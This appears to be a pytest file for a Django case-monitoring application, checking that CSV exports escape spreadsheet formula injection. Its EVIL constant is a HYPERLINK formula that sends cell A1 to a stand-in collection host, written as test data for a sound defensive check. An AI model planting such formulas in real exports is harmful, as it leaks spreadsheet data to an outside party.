"""CSV exports neutralize cells a spreadsheet would run as formulas (issue 11, OWASP "CSV
Injection"). The attack reproduced: an organization renamed ``=HYPERLINK(...)`` appears in a
manager's export, and the spreadsheet that opens it turns the name into a live link."""

import csv
import io

import pytest

from serdh.core import csvsafe
from serdh.monitoring import disclosure
from serdh.network.models import Organization
from tests.cases.factories import open_case

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("https://coleta.invalid/?d="&A1;"Clique aqui")'


def test_an_organization_named_like_a_formula_is_exported_as_text(client_for):
    cras = Organization.objects.get(name="CRAS Centro — Passos")
    Organization.objects.filter(pk=cras.pk).update(name=EVIL)
    for i in range(6):  # enough violations for the cell to be shown (disclosure control)
        open_case(victim_name=f"Vitima Planilha {i}")
    response = client_for("gestor.passos").get(
        "/sima/monitoramento/exportar.csv",
        {"indicador": "violacoes", "por": "organization", "start": "2020-01", "end": "2030-12"},
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    labels = [row[0] for row in rows if row]
    assert "'" + EVIL in labels
    assert not any(label.startswith(csvsafe.FORMULA_STARTS) for label in labels)
    # The number next to it is still a number: six violations published with the cell-key
    # noise (the same records always give the same value, within ±2 and never below 5).
    row = next(row for row in rows if row and row[0] == "'" + EVIL)
    low, high = disclosure.possible(int(row[1]))
    assert low <= 6 <= high


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralized(start):
    assert csvsafe.cell(start + "1+1") == "'" + start + "1+1"


def test_plain_text_and_numbers_pass_unchanged():
    assert csvsafe.cell("CRAS Centro") == "CRAS Centro"
    assert csvsafe.cell(-3) == -3 and csvsafe.cell(2.5) == 2.5 and csvsafe.cell(None) is None
